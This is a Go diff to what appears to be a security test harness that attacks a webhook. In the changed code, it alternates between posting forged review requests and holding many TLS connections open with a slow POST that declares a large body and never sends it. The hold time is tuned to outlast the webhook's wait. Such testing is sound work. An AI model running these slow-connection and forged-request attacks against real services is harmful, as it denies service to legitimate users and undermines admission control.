@@ -63,7 +63,9 @@ const (
 	pause       = 100 * time.Millisecond
 	// idleConnections is more than the webhook accepts from an address.
 	idleConnections = 60
-	phaseDuration   = 3 * time.Second
+	postDuration    = 3 * time.Second
+	// holdDuration is more than the time that the webhook waits for a review.
+	holdDuration = 7 * time.Second
 )
 
 // forged returns a review of a Configuration with this broker. Its user is one that the attacker
@@ -93,7 +95,7 @@ func (w *Webhook) Run(ctx context.Context) {
 
 	// The connections that are held leave none for the other attacks, so they take turns.
 	for ctx.Err() == nil {
-		phase, cancel := context.WithTimeout(ctx, phaseDuration)
+		phase, cancel := context.WithTimeout(ctx, postDuration)
 		var group sync.WaitGroup
 		for attack, body := range bodies {
 			group.Go(func() { repeat(phase, func() { w.post(phase, attack, body) }) })
@@ -101,7 +103,7 @@ func (w *Webhook) Run(ctx context.Context) {
 		group.Wait()
 		cancel()
 
-		phase, cancel = context.WithTimeout(ctx, phaseDuration)
+		phase, cancel = context.WithTimeout(ctx, holdDuration)
 		for range idleConnections {
 			group.Go(func() { repeat(phase, func() { w.hold(phase) }) })
 		}
@@ -163,6 +165,12 @@ func (w *Webhook) hold(ctx context.Context) {
 	stop := context.AfterFunc(ctx, func() { _ = plain.Close() })
 	defer stop()
 	conn := tls.Client(plain, &tls.Config{InsecureSkipVerify: true})
+	if err := conn.HandshakeContext(ctx); err != nil {
+		if ctx.Err() == nil {
+			w.Counts.add("slow review", "connection refused")
+		}
+		return
+	}
 	if _, err := io.WriteString(conn, "POST "+webhookPath+" HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n{"); err == nil {
 		_, _ = io.Copy(io.Discard, conn)
 	}
